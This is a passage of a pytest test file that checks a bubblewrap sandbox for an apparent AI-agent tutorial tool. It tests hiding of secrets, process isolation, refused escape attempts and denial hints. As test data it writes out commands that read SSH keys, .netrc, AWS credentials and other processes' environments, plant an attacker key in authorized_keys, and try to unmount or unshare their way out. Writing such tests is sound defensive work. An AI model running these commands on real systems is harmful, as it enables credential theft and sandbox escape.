    """Each attempt of SEND_TO_HOST run in one sandboxed Python: `refused` (EPERM, the
    filter), `failed` (another error) or `done`."""
    attempts = "".join(
        f"try:\n{textwrap.indent(attempt, '    ')}\n    print({name!r}, 'done')\n"
        "except OSError as error:\n"
        f"    print({name!r}, 'refused' if error.errno == errno.EPERM else 'failed')\n"
        for name, attempt in SEND_TO_HOST.items()
    )
    script = f"import errno, socket\ntarget = {target!r}\n{attempts}"
    done = place.run(python_in_sandbox(script), place.policy(network=network))
    assert done.returncode == 0, done.stderr
    outcomes = dict(line.rsplit(" ", 1) for line in done.stdout.splitlines())
    assert len(outcomes) == len(SEND_TO_HOST)
    return {name.strip("'"): outcome for name, outcome in outcomes.items()}


@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to open a Unix socket")
def test_a_datagram_pair_reaches_the_host_socket_without_the_sandbox(
    place: Place, datagram_listener: socket.socket
) -> None:
    script = (
        "import socket\na, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        f"a.sendto(b'pwned', {datagram_listener.getsockname()!r})\n"
    )

    sent = place.off(python_in_sandbox(script))

    assert sent.returncode == 0, sent.stderr
    assert received(datagram_listener) == [b"pwned"]


@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to run asyncio")
@pytest.mark.parametrize("network", [False, True], ids=["network-off", "network-on"])
def test_stream_and_seqpacket_pairs_and_asyncio_still_work(place: Place, network: bool) -> None:
    script = (
        "import asyncio, socket\n"
        "for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):\n"
        "    a, b = socket.socketpair(socket.AF_UNIX, kind | socket.SOCK_CLOEXEC)\n"
        "    a.send(b'x'); print(b.recv(1))\n"
        "asyncio.run(asyncio.sleep(0)); print('asyncio')\n"
    )

    done = place.run(python_in_sandbox(script), place.policy(network=network))

    assert done.returncode == 0, done.stderr
    assert done.stdout == "b'x'\nb'x'\nasyncio\n"


# Secrets and other processes --------------------------------------------------------------


def test_a_planted_key_returns_no_key_text(place: Place) -> None:
    read = "cat ~/.ssh/id_rsa; ls -a ~/.ssh; cat ~/.netrc"

    hidden = place.run(read)
    shown = place.off(read)

    assert KEY_TEXT not in hidden.stdout + hidden.stderr
    assert "hunter2" not in hidden.stdout + hidden.stderr
    assert "id_rsa" not in hidden.stdout
    assert KEY_TEXT in shown.stdout and "hunter2" in shown.stdout


def test_secrets_stay_hidden_when_the_workspace_is_the_home_directory(place: Place) -> None:
    policy = place.policy(workspace=place.home)

    hidden = place.run("cat ~/.ssh/id_rsa ~/.netrc; echo notes > ~/notes.txt", policy)
    replaced = place.run("rm -rf ~/.ssh; echo mine > ~/.netrc", policy)
    planted = place.run("echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys", policy)

    assert KEY_TEXT not in hidden.stdout + hidden.stderr
    assert "hunter2" not in hidden.stdout + hidden.stderr
    assert (place.home / "notes.txt").read_text() == "notes\n"
    assert replaced.returncode != 0 and planted.returncode != 0
    assert KEY_TEXT in (place.home / ".ssh" / "id_rsa").read_text()
    assert not (place.home / ".ssh" / "authorized_keys").exists()
    assert "hunter2" in (place.home / ".netrc").read_text()


def test_a_secret_behind_a_symlink_is_hidden_at_its_real_path(place: Place) -> None:
    real = place.outside / "aws-real"
    real.mkdir()
    (real / "credentials").write_text("aws_secret_access_key = planted\n")
    (place.home / ".aws").symlink_to(real)
    place.give_away()

    hidden = place.run(f"cat ~/.aws/credentials {real}/credentials")

    assert "planted" not in hidden.stdout + hidden.stderr
    assert "planted" in place.off(f"cat {real}/credentials").stdout


def test_a_secret_named_by_absolute_path_is_hidden_too(place: Place) -> None:
    settings = place.outside / "xdg" / "agent-tutorial"
    settings.mkdir(parents=True)
    (settings / "config.toml").write_text("api_key = 'sk-user-settings'\n")
    place.give_away()
    policy = SandboxPolicy(
        mode="workspace-write",
        network=False,
        workspace=place.workspace,
        private_tmp=place.private_tmp,
        home=place.home,
        also_hidden=(settings,),
    )

    hidden = place.run(f"cat {settings}/config.toml", policy)

    assert "sk-user-settings" not in hidden.stdout
    assert "sk-user-settings" in place.run(f"cat {settings}/config.toml").stdout


def test_another_process_of_the_same_user_is_out_of_sight(place: Place) -> None:
    neighbour = subprocess.Popen(
        [*place.user_prefix, "sleep", "60"],
        env={**place.environment, "NEIGHBOUR_SECRET": "sk-neighbour"},
    )
    try:
        read = f"cat /proc/{neighbour.pid}/environ | tr '\\0' '\\n'; ls /proc"
        hidden = place.run(read)
        shown = place.off(read)
    finally:
        neighbour.kill()
        neighbour.wait()

    assert "sk-neighbour" not in hidden.stdout
    assert str(neighbour.pid) not in hidden.stdout.split()
    assert "NEIGHBOUR_SECRET=sk-neighbour" in shown.stdout


UNDO_ATTEMPTS = {
    "unmount the cover": "umount ~/.ssh; umount -l ~/.ssh; cat ~/.ssh/id_rsa",
    "remount writable": "mount -o remount,rw,bind / ; mount -o remount,bind,rw ..; "
    "echo x > ../outside/f",
    "a nested user namespace": "unshare --user --map-root-user --mount "
    "sh -c 'umount -l ~/.ssh; cat ~/.ssh/id_rsa; echo x > ../outside/f'",
}


@pytest.mark.parametrize("attempt", UNDO_ATTEMPTS.values(), ids=UNDO_ATTEMPTS.keys())
def test_nothing_inside_can_undo_the_mounts(place: Place, attempt: str) -> None:
    tried = place.run(attempt)

    assert KEY_TEXT not in tried.stdout
    assert not (place.outside / "f").exists()


def test_a_command_holds_no_capabilities(place: Place) -> None:
    # Even root's command: capabilities in the sandbox's user namespace would reach files of
    # the mapped user past their modes, and more, for nothing a command needs.
    status = place.run("grep -E '^Cap(Prm|Eff|Amb):' /proc/self/status")

    assert status.stdout.split() == ["CapPrm:", "0" * 16, "CapEff:", "0" * 16, "CapAmb:", "0" * 16]


def test_no_user_namespace_can_be_made_inside(place: Place) -> None:
    # The kernel code behind new user namespaces is a frequent source of escapes.
    tried = place.run("unshare --user true && echo made")

    assert tried.returncode != 0
    assert "made" not in tried.stdout


# Processes -------------------------------------------------------------------------------
# When the shell (or bwrap) is gone, the kernel kills what is left in the PID namespace; the
# tests wait for that, since it finishes just after bwrap's own exit. (The CLI, a subreaper,
# reaps the namespace's first process, which the kernel lets go only once all are gone.)


def test_the_exit_status_passes_through(place: Place) -> None:
    assert place.run("exit 7").returncode == 7
    assert place.run("true").returncode == 0


def test_processes_left_behind_end_with_the_shell(place: Place, marker: str) -> None:
    done = place.run("setsid sleep 60 >/dev/null 2>&1 & nohup sleep 60 >/dev/null 2>&1 & echo go")

    assert done.stdout == "go\n"
    assert wait_until(lambda: processes_with_marker(marker) == [])


def test_stopping_the_process_group_ends_everything_in_the_sandbox(
    place: Place, marker: str
) -> None:
    process = place.start(["bash", "-c", "setsid sleep 60 & sleep 60 & echo go; wait"])
    assert process.stdout is not None
    assert process.stdout.readline() == b"go\n"

    os.killpg(process.pid, signal.SIGTERM)
    process.wait(timeout=30)
    process.stdout.close()

    assert wait_until(lambda: processes_with_marker(marker) == [])


def test_the_sandbox_dies_with_the_process_that_started_it(place: Place, marker: str) -> None:
    starter = place.start(["sleep", "60"], starter=("sh", "-c", '"$@" & echo started; wait', "sh"))
    assert starter.stdout is not None
    assert starter.stdout.readline() == b"started\n"
    assert wait_until(lambda: any(cmd == "sleep 60" for _, cmd in processes_with_marker(marker)))

    starter.kill()  # SIGKILL to the starter alone, not its group
    starter.wait()
    starter.stdout.close()

    assert wait_until(lambda: processes_with_marker(marker) == [])


# The value, the probe and the hint ---------------------------------------------------------


def test_off_runs_the_command_as_it_is(tmp_path: Path) -> None:
    policy = SandboxPolicy(
        mode="off", network=False, workspace=tmp_path, private_tmp=tmp_path, home=tmp_path
    )

    with sandboxed(policy, ["bash", "-c", "true"], cwd=tmp_path) as launch:
        assert launch.argv == ("bash", "-c", "true")
        assert launch.pass_fds == ()


@pytest.mark.parametrize(
    ("mode", "workspace", "refusal"),
    [
        ("workspace-write", "/", "the workspace is /: there would be nothing left to confine"),
        ("read-only", "gone", "the workspace '.*gone' is not a directory"),
    ],
    ids=["slash", "missing"],
)
def test_a_workspace_the_sandbox_cannot_use_is_refused(
    tmp_path: Path, mode: SandboxMode, workspace: str, refusal: str
) -> None:
    policy = SandboxPolicy(
        mode=mode,
        network=False,
        workspace=tmp_path / workspace,
        private_tmp=tmp_path,
        home=tmp_path,
    )

    with (
        pytest.raises(SandboxUnavailableError, match=refusal),
        sandboxed(policy, ["true"], cwd=tmp_path),
    ):
        pass


def test_a_policy_needs_absolute_paths_and_a_known_mode(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="workspace must be an absolute path"):
        SandboxPolicy(
            mode="off", network=False, workspace=Path("rel"), private_tmp=tmp_path, home=tmp_path
        )
    unknown: Any = "danger-full-access"  # Codex's name; here it is called "off"
    with pytest.raises(ValueError, match="mode must be one of"):
        SandboxPolicy(
            mode=unknown, network=False, workspace=tmp_path, private_tmp=tmp_path, home=tmp_path
        )


def test_the_probe_says_why_bubblewrap_cannot_start(tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text(
        "#!/bin/sh\necho 'bwrap: No permissions to create a new namespace' >&2\nexit 1\n"
    )
    fake.chmod(0o755)

    reason = sandbox_available(fake)

    assert reason == (
        "bubblewrap could not start a sandbox: bwrap: No permissions to create a new namespace"
    )


def test_a_denied_write_gets_a_hint_naming_what_to_loosen(place: Place) -> None:
    policy = place.policy()
    denied = place.run("echo x > ../outside/f", policy)

    hint = sandbox_denial_hint(denied.stderr, policy)

    assert hint is not None
    assert "sandbox (workspace-write, network off)" in hint
    assert "`--sandbox off`" in hint and "`sandbox_network = true`" in hint


def test_a_read_only_denial_names_workspace_write_and_network_on_is_not_offered(
    place: Place,
) -> None:
    policy = place.policy("read-only", network=True)
    denied = place.run("echo x > inside.txt", policy)

    hint = sandbox_denial_hint(denied.stderr, policy)

    assert hint is not None
    assert "`--sandbox workspace-write`" in hint and "sandbox_network" not in hint


def test_an_ordinary_failure_or_an_unconfined_one_gets_no_hint(place: Place) -> None:
    failed = place.run("ls no-such-file")

    assert failed.returncode != 0
    assert sandbox_denial_hint(failed.stderr, place.policy()) is None
    assert sandbox_denial_hint("Read-only file system", place.policy("off")) is None


LOCKING_SESSION = """
import sys
from pathlib import Path
from agent_tutorial.adapters.sandbox import private_temporary_directory
with private_temporary_directory() as private:
    (private / "a" / "b").mkdir(parents=True)
    (private / "a" / "b" / "f").write_text("x")
    (private / "a").chmod(0)
    (private / "link").symlink_to(sys.argv[1])
    print(oct(private.stat().st_mode & 0o777), private)
print(private.exists())
"""


@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to run a session in")
def test_the_private_temporary_directory_goes_with_what_commands_locked(place: Place) -> None:
    # As nobody, a folder left with mode 000 really cannot be read by its owner (root can).
    session = subprocess.run(
        [*place.user_prefix, str(SYSTEM_PYTHON), "-c", LOCKING_SESSION, str(place.outside)],
        env={**place.environment, "PYTHONPATH": place.pythonpath},
        capture_output=True,
        text=True,
        check=False,
    )

    assert session.returncode == 0, session.stderr
    mode, _path, gone = session.stdout.split()
    assert (mode, gone) == ("0o700", "False")
    assert place.outside.is_dir()


def test_a_private_temporary_directory_a_cleaner_removed_first_ends_quietly() -> None:
    with private_temporary_directory() as private:
        private.rmdir()  # what a /tmp cleaner may do during a long session

    assert not private.exists()


@pytest.mark.parametrize("refusal", ["Connection refused", "Couldn't connect to server"])
def test_a_refused_connection_is_a_denial_sign_only_with_the_network_off(
    tmp_path: Path, refusal: str
) -> None:
    # Off, the command's own loopback has nothing listening: the sandbox refused it. On, a
    # refusal comes from the real host, where nothing listens on that port.
    def policy(network: bool) -> SandboxPolicy:
        return SandboxPolicy(
            mode="workspace-write",
            network=network,
            workspace=tmp_path,
            private_tmp=tmp_path,
            home=tmp_path,
        )

    assert sandbox_denial_hint(f"curl: {refusal}", policy(network=False)) is not None
    assert sandbox_denial_hint(f"curl: {refusal}", policy(network=True)) is None
